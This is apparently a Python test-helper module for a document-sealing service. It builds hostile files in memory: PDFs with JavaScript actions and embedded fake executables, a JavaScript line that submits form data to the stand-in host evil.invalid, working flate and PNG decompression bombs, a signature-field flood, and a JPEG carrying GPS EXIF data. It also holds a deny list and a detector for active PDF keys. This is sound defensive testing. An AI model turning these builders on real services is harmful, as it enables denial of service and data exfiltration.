"""Hostile files, built by the tests themselves (pikepdf, Pillow, zlib): no fixtures on disk."""

from __future__ import annotations

import functools
import io
import struct
import zlib

import pikepdf
from PIL import Image

from formsvc.services.sealing import Sealer

#: Keys and names that must never be in a stored scan.
ACTIVE = ("/JavaScript", "/JS", "/EmbeddedFiles", "/EmbeddedFile", "/OpenAction", "/AA", "/A")
ACTIVE += ("/AcroForm", "/Annots", "/EF", "/Names", "/XFA")


def _save(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    # as built: no decoding or re-compression (a bomb must stay a bomb)
    pdf.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def _page_with_text(pdf: pikepdf.Pdf, text: str = "Underskrift: Maria Öberg") -> pikepdf.Page:
    font = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont="/Helvetica"
        )
    )
    content = f"BT /F1 14 Tf 72 720 Td ({text.encode('ascii', 'replace').decode()}) Tj ET"
    page = pikepdf.Page(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Page,
            MediaBox=[0, 0, 595, 842],
            Resources=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font)),
            Contents=pdf.make_stream(content.encode()),
        )
    )
    pdf.pages.append(page)
    return pdf.pages[-1]


def _js(code: str = "app.alert('pwned')") -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))


def plain_pdf(pages: int = 1) -> bytes:
    """A harmless scan-like PDF with text on each page."""
    pdf = pikepdf.new()
    for i in range(pages):
        _page_with_text(pdf, f"Sida {i + 1}: underskriven")
    return _save(pdf)


def javascript_pdf() -> bytes:
    """JavaScript on opening (/OpenAction, /Names/JavaScript) and on a page (/AA)."""
    pdf = pikepdf.new()
    page = _page_with_text(pdf)
    pdf.Root.OpenAction = pdf.make_indirect(_js())
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("boo"), pdf.make_indirect(_js())])
    )
    page.obj.AA = pikepdf.Dictionary(O=_js("this.submitForm('http://evil.invalid')"))
    return _save(pdf)


def embedded_file_pdf() -> bytes:
    """An embedded executable (/Names/EmbeddedFiles) and a file-attachment annotation."""
    pdf = pikepdf.new()
    page = _page_with_text(pdf)
    pdf.attachments["faktura.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 evil payload")
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ second payload", filename="bilaga.exe")
    annot = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.FileAttachment,
        Rect=[10, 10, 40, 40],
        FS=spec.obj,
    )
    page.obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annot)]))
    return _save(pdf)


def form_pdf() -> bytes:
    """An AcroForm text field whose widget runs JavaScript, and a link annotation to a URL."""
    pdf = pikepdf.new()
    page = _page_with_text(pdf)
    widget = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Tx,
            T=pikepdf.String("namn"),
            Rect=[100, 100, 300, 130],
            P=page.obj,
            A=_js(),
        )
    )
    link = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[100, 200, 300, 230],
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("http://evil.invalid/")),
        )
    )
    page.obj.Annots = pikepdf.Array([widget, link])
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[widget], NeedAppearances=True)
    return _save(pdf)


@functools.cache
def flate_bomb_pdf(unpacked: int = 1024**3) -> bytes:
    """A page whose content stream is *unpacked* bytes of zeros, about 1 MB packed (1 GB)."""
    # one fully flushed megabyte of zeros deflates to the same ~1 kB every time: repeat it,
    # then close the zlib stream with the checksum of all the zeros (a valid stream, in ~1 s)
    block, blocks = bytes(1024 * 1024), unpacked // (1024 * 1024)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    unit = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(blocks):
        checksum = zlib.adler32(block, checksum)
    packed = b"\x78\xda" + unit * blocks + deflate.flush() + struct.pack(">I", checksum)
    pdf = pikepdf.new()
    page = _page_with_text(pdf)
    bomb = pikepdf.Stream(pdf, b"")
    bomb.write(packed, filter=pikepdf.Name.FlateDecode)
    page.obj.Contents = pikepdf.Array([page.obj.Contents, pdf.make_indirect(bomb)])
    return _save(pdf)


@functools.cache
def many_signature_fields_pdf(sealed: bytes, fields: int = 3000, pad_mb: int = 4) -> bytes:
    """*sealed* (a PDF with one seal) with *fields* more signature fields sharing its /V,
    padded to about *pad_mb* MB so that every validation hashes megabytes."""
    pdf = pikepdf.open(io.BytesIO(sealed))
    first = next(f for f in pdf.Root.AcroForm.Fields if f.get("/FT") == pikepdf.Name.Sig)
    page = pdf.pages[0]
    annots = page.obj.get("/Annots") or pikepdf.Array()
    for i in range(fields):
        field = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Widget,
                FT=pikepdf.Name.Sig,
                T=pikepdf.String(f"Sigill{i}"),
                Rect=[0, 0, 0, 0],
                F=132,
                P=page.obj,
                V=first.V,
            )
        )
        pdf.Root.AcroForm.Fields.append(field)
        annots.append(field)
    page.obj.Annots = annots
    pdf.Root.Padding = pdf.make_stream(bytes(range(256)) * (pad_mb * 4096))
    return _save(pdf)


def sealed_pdf(sealer: Sealer) -> bytes:
    """A one-page PDF carrying one seal by *sealer*."""
    return sealer.seal(plain_pdf(), reason="test", location="test")


def png(size: tuple[int, int], mode: str = "RGB") -> bytes:
    """A white PNG of *size* (a 12000 × 12000 one-bit image is 144 megapixels in ~50 kB)."""
    out = io.BytesIO()
    Image.new(mode, size, "white" if mode != "1" else 1).save(out, format="PNG")
    return out.getvalue()


def png_bomb(side: int = 40_000) -> bytes:
    """A one-bit PNG of side × side white pixels: ~200 kB, 1.6 GB once Pillow decodes it."""
    row = b"\x00" + b"\xff" * (side // 8)
    deflate = zlib.compressobj(9)
    idat = b"".join(deflate.compress(row) for _ in range(side)) + deflate.flush()

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
    )


def jpeg_with_exif(size: tuple[int, int] = (1200, 1600)) -> bytes:
    """A JPEG scan carrying EXIF data (camera, position) that must not be kept."""
    img = Image.new("RGB", size, "white")
    exif = Image.Exif()
    exif[0x010F] = "EvilCam"  # Make
    exif[0x8825] = {2: (59.0, 20.0, 0.0)}  # GPS latitude
    out = io.BytesIO()
    img.save(out, format="JPEG", exif=exif, quality=90)
    return out.getvalue()


def active_keys(pdf_bytes: bytes) -> set[str]:
    """Every key of ACTIVE anywhere in the PDF (written apart from the code under test)."""
    found: set[str] = set()
    seen: set[tuple[int, int]] = set()

    def visit(obj: object) -> None:
        if isinstance(obj, pikepdf.Object) and obj.is_indirect:
            if obj.objgen in seen:
                return
            seen.add(obj.objgen)
        if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
            for key, value in obj.items():
                if key in ACTIVE:
                    found.add(key)
                visit(value)
        elif isinstance(obj, pikepdf.Array):
            for value in obj:
                visit(value)

    with pikepdf.open(io.BytesIO(pdf_bytes)) as pdf:
        visit(pdf.trailer)
        for obj in pdf.objects:
            visit(obj)
    return found
